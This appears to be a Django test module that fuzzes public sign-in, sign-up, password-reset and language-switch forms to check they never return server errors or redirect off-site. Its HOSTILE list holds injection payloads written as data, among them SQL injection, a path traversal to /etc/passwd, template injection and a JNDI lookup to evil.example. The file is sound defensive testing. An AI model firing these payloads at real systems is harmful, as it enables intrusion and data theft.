@@ -1,0 +1,98 @@
+"""Random and hostile input at every public form and query string: never a server error.
+
+Each form gets a clear answer (a page with errors, a redirect, or 429 when rate-limited).
+Add a form or a feed filter here with one more test of the same shape.
+"""
+
+import pytest
+from django.core.cache import cache
+from django.test import Client
+from django.utils.http import url_has_allowed_host_and_scheme
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from .ical_injection import ICAL_PAYLOADS
+from .xss import XSS_PAYLOADS
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    *XSS_PAYLOADS,
+    *ICAL_PAYLOADS[:6],
+    "",
+    " ",
+    "\x00",
+    "a\x00b@example.org",
+    "' OR 1=1 --",
+    '"; DROP TABLE auth_user; --',
+    "../../../../etc/passwd",
+    "%00%0d%0a",
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://evil.example/a}",
+    "\ud7ff\ue000\ufffd\U0001f600",
+    "a" * 5000,
+    "user@" + "a" * 300 + ".example.org",
+    "@",
+    "user@@example.org",
+    "ko",
+    "en",
+    "https://evil.example/",
+    "//evil.example/",
+    "javascript:alert(1)",
+]
+
+# Text that can be sent in a form: any code point but surrogates (which cannot be encoded).
+any_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300)
+hostile_text = st.one_of(st.sampled_from(HOSTILE), any_text)
+fuzz = settings(
+    max_examples=40,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+# A clear answer: a page (with the errors), a redirect, a refusal, or "too many requests".
+CLEAR_ANSWERS = {200, 301, 302, 400, 403, 404, 405, 429}
+
+
+def _post(path: str, data: dict) -> int:
+    cache.clear()  # rate limits would otherwise stop the fuzzing after a few examples
+    response = Client(raise_request_exception=False).post(path, data)
+    assert response.status_code in CLEAR_ANSWERS, f"POST {path} {data!r}: {response.status_code}"
+    return response.status_code
+
+
+@fuzz
+@given(login=hostile_text, password=hostile_text, remember=hostile_text)
+def test_sign_in_form_never_fails_on_hostile_input(login, password, remember):
+    _post("/accounts/login/", {"login": login, "password": password, "remember": remember})
+
+
+@fuzz
+@given(email=hostile_text, password1=hostile_text, password2=hostile_text)
+def test_sign_up_form_never_fails_on_hostile_input(email, password1, password2):
+    _post("/accounts/signup/", {"email": email, "password1": password1, "password2": password2})
+
+
+@fuzz
+@given(email=hostile_text)
+def test_password_reset_form_never_fails_on_hostile_input(email):
+    _post("/accounts/password/reset/", {"email": email})
+
+
+@fuzz
+@given(language=hostile_text, next_url=hostile_text)
+def test_language_switcher_never_fails_and_never_redirects_off_site(language, next_url):
+    cache.clear()
+    data = {"language": language, "next": next_url}
+    response = Client(raise_request_exception=False).post("/i18n/setlang/", data)
+    assert response.status_code in CLEAR_ANSWERS
+    if response.status_code == 302:
+        assert url_has_allowed_host_and_scheme(response["Location"], allowed_hosts={"testserver"})
+
+
+@fuzz
+@given(params=st.dictionaries(hostile_text, hostile_text, max_size=5), language=hostile_text)
+def test_home_page_query_strings_and_languages_never_fail(params, language):
+    client = Client(raise_request_exception=False)
+    header = language.encode("utf-8", "replace").decode("latin-1")  # as a raw header arrives
+    response = client.get("/", params, HTTP_ACCEPT_LANGUAGE=header)
+    assert response.status_code == 200
